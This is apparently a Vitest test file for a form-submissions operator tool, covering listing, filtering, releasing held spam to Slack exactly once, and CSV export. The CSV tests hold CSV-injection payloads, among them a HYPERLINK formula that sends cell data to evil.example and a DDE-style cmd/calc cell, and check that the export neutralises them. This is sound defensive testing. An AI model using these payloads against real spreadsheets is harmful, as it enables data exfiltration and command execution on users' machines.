/**
 * The operators' tool (`npm run submissions`) on what the real handlers stored: listing
 * with filters, one submission in full, a held submission released to Slack exactly once (also
 * racing the scheduled delivery), and a CSV a spreadsheet reads back as typed, hostile cells
 * included.
 */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { readSuspected } from '../../netlify/lib/spam';
import { readSubmission } from '../../netlify/lib/submissions';
import { pdf } from './support/files';
import {
  idsOf,
  operator,
  operatorBench,
  scheduledRun,
  sendAcademy,
  sendContact,
  sendJob,
} from './support/operations';
import { apiEnv, setEnv } from './support/slack';

const bench = operatorBench('operations');
const { run } = bench;
beforeEach(() => {
  bench.slack.reset();
  setEnv(apiEnv(bench.slack.url));
});

/** The operator's shell without Slack settings: a release waits for the scheduled delivery. */
const runWithoutSlack = operator({ store: () => bench.blobs.store() });

/** Posts of this submission in the stand-in's channel: messages and shared resumes. */
const postsOf = (id: string) => ({
  messages: bench.slack.messages.filter((m) => m.metadata.includes(id)).length,
  files: bench.slack.shared.filter((f) =>
    bench.slack.messages.some((m) => m.ts === f.threadTs && m.metadata.includes(id)),
  ).length,
});

describe('listing and reviewing', () => {
  beforeAll(async () => {
    setEnv(apiEnv(bench.slack.url));
    await sendContact({ name: 'Ayşe Yılmaz', email: 'ayse@list.example', company: 'Örnek A.Ş.' });
    await sendAcademy({ fullName: 'Jean Dupont', email: 'jean@list.example' });
    bench.slack.script('/api/chat.postMessage', { status: 500 });
    await sendJob(
      { fullName: 'María Núñez', email: 'maria@list.example' },
      { name: 'cv.pdf', bytes: pdf() },
    );
    await sendContact({ name: 'Bot', email: 'bot@list.example', fillTimeMs: 300 });
  });

  it('lists newest first, with each delivery state, and filters by form, state, text and date', async () => {
    const all = await run('--search', 'list.example');
    expect(all.code).toBe(0);
    const order = ['María Núñez', 'Jean Dupont', 'Ayşe Yılmaz'].map((name) =>
      all.out.indexOf(name),
    );
    expect(order.every((at, i) => at > 0 && (i === 0 || at > order[i - 1]!))).toBe(true);
    expect(all.out).not.toContain('bot@list.example');
    expect(all.out).toMatch(
      /Ayşe Yılmaz <ayse@list\.example>\s+Örnek A\.Ş\.\n\s+delivery: delivered, 1 attempt, via api/,
    );
    expect(all.out).toMatch(
      /María Núñez <maria@list\.example>\s+AI Developer\n\s+delivery: pending, 1 attempt, next .*last error: chat\.postMessage: HTTP 500\n\s+resume: cv\.pdf/,
    );
    expect(all.out).toContain('3 submissions ("list.example" in name or e-mail).');

    const byForm = await run('--search', 'list.example', '--form', 'academy');
    expect(byForm.out).toContain('Jean Dupont');
    expect(byForm.out).not.toMatch(/Ayşe|María/);

    const byState = await run('--search', 'list.example', '--state', 'pending');
    expect(byState.out).toContain('María Núñez');
    expect(byState.out).not.toMatch(/Ayşe|Jean/);

    // Accents, case and the Turkish dotless i aside.
    const folded = await run('--search', 'AYSE YILMAZ');
    expect(folded.out).toContain('ayse@list.example');

    const today = new Date().toLocaleDateString('en-CA', { timeZone: 'Europe/Istanbul' });
    expect(
      (await run('--search', 'list.example', '--since', today, '--until', today)).out,
    ).toContain('3 submissions');
    expect((await run('--search', 'list.example', '--until', '2020-01-01')).out).toContain(
      'Nothing matches',
    );

    const held = await run('--spam', '--search', 'list.example');
    expect(held.out).toMatch(
      /Bot <bot@list\.example>\n\s+held as suspected spam: filled in 300 ms/,
    );
    expect(held.out).toContain('--release ID sends one on');
  });

  it('shows one submission in full; an unknown id is a clear error', async () => {
    const [id] = (await idsOf(bench.blobs.store(), 'maria@list.example')).stored;
    const shown = await run('--show', id!);
    expect(shown.code).toBe(0);
    expect(shown.out).toContain(`Job submission ${id}`);
    expect(shown.out).toMatch(/Full name:\s+María Núñez/);
    expect(shown.out).toMatch(/English level:\s+fluent/);
    expect(shown.out).toMatch(
      /Consent:\s+privacyPolicy yes, referenceCheck yes, futureContact yes/,
    );
    expect(shown.out).toMatch(/Resume:\s+cv\.pdf \(2 kB, application\/pdf\)/);
    expect(shown.out).toMatch(/Kept until:\s+20\d\d-/);

    const missing = await run('--show', '2026-01-01T00-00-00-000Z_00000000');
    expect(missing).toMatchObject({ code: 1, out: '' });
    expect(missing.err).toBe('No submission 2026-01-01T00-00-00-000Z_00000000 in the test store.');
  });

  it('says what is wrong with a command line, with the usage, and exits 2', async () => {
    const wrong = await run('--form', 'newsletter');
    expect(wrong.code).toBe(2);
    expect(wrong.err).toMatch(
      /^--form is one of contact, job, academy, not "newsletter"\.\n\nnpm run submissions/,
    );
    expect((await run('--csv', 'x.csv')).err).toMatch(
      /^A CSV holds one form's columns: add --form/,
    );
    expect((await run('--person', 'a@b.example', '--show', 'x')).err).toMatch(
      /^One command at a time/,
    );
    expect((await run('--since', 'yesterday')).err).toMatch(
      /^--since takes a day \(2026-11-03, in Europe\/Istanbul\)/,
    );
  });
});

describe('releasing a submission held as suspected spam', () => {
  async function heldJob(email: string) {
    await sendJob(
      { fullName: 'Zeynep Kaya', email, fillTimeMs: '800' },
      { name: 'zeynep-cv.pdf', bytes: pdf(4000) },
    );
    return (await idsOf(bench.blobs.store(), email)).held[0]!;
  }

  it('changes nothing without --yes; with it, posts the message and its resume once', async () => {
    const id = await heldJob('zeynep@release.example');
    const dry = await run('--release', id);
    expect(dry.code).toBe(0);
    expect(dry.out).toContain('held because filled in 800 ms');
    expect(dry.out).toContain('now, from here (Web API, channel C123)');
    expect(dry.out).toContain('Dry run: nothing was changed.');
    expect(await readSuspected(bench.blobs.store(), id)).not.toBeNull();
    expect(bench.slack.received).toHaveLength(0);

    const done = await run('--release', id, '--yes');
    expect(done.code).toBe(0);
    expect(done.out).toMatch(
      /Released from the test store\. Delivery: delivered, 1 attempt, via api .*released from the spam hold/,
    );
    expect(postsOf(id)).toEqual({ messages: 1, files: 1 });
    const message = bench.slack.messages.find((m) => m.metadata.includes(id))!;
    expect(message.blocks).toContain('held as suspected spam, released');
    expect(await readSuspected(bench.blobs.store(), id)).toBeNull();
    const stored = (await readSubmission(bench.blobs.store(), id))!.submission;
    expect(stored).toMatchObject({
      released: { verdict: { reason: 'fillTime' } },
      delivery: { state: 'delivered' },
    });
    expect(stored.suspected).toBeUndefined();
    expect(done.err).toMatch(
      /^\[submissions\] \S+ test: released held submission \S+; delivery delivered$/,
    );

    const again = await run('--release', id, '--yes');
    expect(again.code).toBe(1);
    expect(again.err).toContain('is not held as spam (it was released already)');
    expect(postsOf(id)).toEqual({ messages: 1, files: 1 });
  });

  it('reaches Slack exactly once when the scheduled delivery runs at the same moment', async () => {
    for (const [round, delayMs] of [0, 2, 5, 10, 20].entries()) {
      const id = await heldJob(`race${round}@release.example`);
      const scheduled = async () => {
        await new Promise((resolve) => setTimeout(resolve, delayMs));
        await scheduledRun();
      };
      const [released] = await Promise.all([
        run('--release', id, '--yes'),
        scheduled(),
        scheduled(),
      ]);
      expect(released.code).toBe(0);
      await scheduled();
      expect(postsOf(id)).toEqual({ messages: 1, files: 1 });
      expect((await readSubmission(bench.blobs.store(), id))!.submission.delivery.state).toBe(
        'delivered',
      );
    }
  });

  it('left to the scheduled delivery when the operator has no Slack settings, is posted once by it', async () => {
    const id = await heldJob('queued@release.example');
    const done = await runWithoutSlack('--release', id, '--yes');
    expect(done.out).toContain(
      'by the scheduled delivery (deliver-submissions, every 10 minutes on Netlify)',
    );
    expect(done.out).toMatch(/Delivery: pending, 0 attempts/);
    expect(postsOf(id)).toEqual({ messages: 0, files: 0 });
    await Promise.all([scheduledRun(), scheduledRun()]);
    expect(postsOf(id)).toEqual({ messages: 1, files: 1 });
  });
});

describe('a CSV of one form', () => {
  // What an applicant could type (the forms trim outer spaces and tabs; tests/unit/operations.test.ts covers those).
  const hostile = {
    formula: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    plus: "+1+cmd|' /C calc'!A0",
    minus: '-2+3',
    at: '@SUM(1+1)',
    fullwidth: '＝1+1',
    quoted: 'She said "merhaba", then left;\nline two, with a comma',
  };

  it('reads back in a spreadsheet parser as typed: Turkish, French and Spanish names intact, formulas inert', async () => {
    const people = [
      {
        name: 'Şükrü Öztürk-İğdeli',
        email: 'sukru@csv.example',
        company: hostile.formula,
        message: hostile.quoted,
      },
      {
        name: 'Françoise Lefèvre-Hébert',
        email: 'francoise@csv.example',
        company: hostile.plus,
        message: hostile.at,
      },
      {
        name: 'José Ñúñez Peñalosa',
        email: 'jose@csv.example',
        company: hostile.minus,
        message: hostile.fullwidth,
      },
    ];
    for (const person of people) expect((await sendContact(person)).status).toBe(200);
    const file = path.join(bench.scratch, 'contact.csv');
    const written = await run('--csv', file, '--form', 'contact', '--search', 'csv.example');
    expect(written.code).toBe(0);
    expect(written.out).toContain(
      `Wrote 3 contact submissions ("csv.example" in name or e-mail) from the test store to ${file}`,
    );

    const bytes = await readFile(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.split('\r\n')[0]).toBe(
      '\ufeff"id","receivedAt","lang","state","name","email","company","message"',
    );
    const rows = parse(bytes, { bom: true, columns: true, relax_quotes: false }) as Array<
      Record<string, string>
    >;
    expect(rows).toHaveLength(3);
    const byEmail = Object.fromEntries(rows.map((row) => [row.email, row]));
    expect(byEmail['sukru@csv.example']).toMatchObject({
      name: 'Şükrü Öztürk-İğdeli',
      company: `'${hostile.formula}`,
      message: hostile.quoted,
      state: 'delivered',
      lang: 'en',
    });
    expect(byEmail['francoise@csv.example']).toMatchObject({
      name: 'Françoise Lefèvre-Hébert',
      company: `'${hostile.plus}`,
      message: `'${hostile.at}`,
    });
    expect(byEmail['jose@csv.example']).toMatchObject({
      name: 'José Ñúñez Peñalosa',
      company: `'${hostile.minus}`,
      message: `'${hostile.fullwidth}`,
    });
    // No cell a spreadsheet would run: each begins with something else than = + - @ (after spaces).
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[\s]*[=+\-@＝]|^\t/);
    expect(
      rows.every((row) => /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+03:00$/.test(row.receivedAt!)),
    ).toBe(true);

    const again = await run('--csv', file, '--form', 'contact');
    expect(again).toMatchObject({ code: 1 });
    expect(again.err).toContain('exists: name a new file (nothing is overwritten)');
  });

  it('holds a job application’s fields, its consent and its resume’s name', async () => {
    await sendJob(
      { fullName: 'Élodie Çelik', email: 'elodie@csvjob.example', additionalInfo: '-1' },
      { name: 'Élodie CV.pdf', bytes: pdf(3000) },
    );
    const file = path.join(bench.scratch, 'job.csv');
    expect((await run('--csv', file, '--form', 'job', '--search', 'csvjob.example')).code).toBe(0);
    const [row] = parse(await readFile(file), { bom: true, columns: true }) as Array<
      Record<string, string>
    >;
    expect(row).toMatchObject({
      jobTitle: 'AI Developer',
      jobType: 'Full Time',
      fullName: 'Élodie Çelik',
      email: 'elodie@csvjob.example',
      phone: "'+90 532 000 00 00",
      englishLevel: 'fluent',
      additionalInfo: "'-1",
      'consent.privacyPolicy': 'true',
      'consent.referenceCheck': 'true',
      'consent.futureContact': 'true',
      resume: 'Élodie CV.pdf',
      resumeBytes: '3000',
    });
    expect(row!.futureContactUntil).toMatch(/^\d{4}-\d{2}-\d{2}T/);
  });
});
